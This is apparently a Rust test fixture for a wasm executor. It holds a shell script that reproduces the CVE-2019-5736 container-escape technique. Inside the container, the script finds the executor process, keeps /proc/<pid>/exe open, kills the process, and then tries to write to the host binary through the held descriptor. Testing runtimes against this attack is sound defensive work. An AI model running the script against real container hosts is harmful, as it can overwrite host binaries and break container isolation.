//! The attack of CVE-2019-5736 on a wasm executor, as a shell script a test runs inside the
//! container: find the executor (the one process not running busybox), keep its
//! `/proc/<pid>/exe` open read-only, kill it and wait (10 s at most) until it is reaped (a
//! binary still held by a process cannot be opened for writing: "Text file busy"), then
//! reopen that descriptor for writing.
//! The shell prints `exe: <link>` for the executor and `WROTE` if the write went through.

/// The script; it needs busybox in the container and an executor already running.
pub const ATTACK: &str = r#"
for i in $(busybox seq 50); do
  for p in /proc/[0-9]*; do
    exe=$(busybox readlink $p/exe)
    case "$exe" in ""|*busybox*) ;; *) pid=${p#/proc/} ;; esac
  done
  [ -n "$pid" ] && break
  busybox sleep 0.1
done
[ -n "$pid" ] || { echo "no executor running"; exit 9; }
echo "exe: $(busybox readlink /proc/$pid/exe)"
exec 3< /proc/$pid/exe
busybox kill -9 $pid
for i in $(busybox seq 100); do
  [ -e /proc/$pid ] || break
  busybox sleep 0.1
done
echo pwned >> /proc/self/fd/3 && echo WROTE
exit 0
"#;
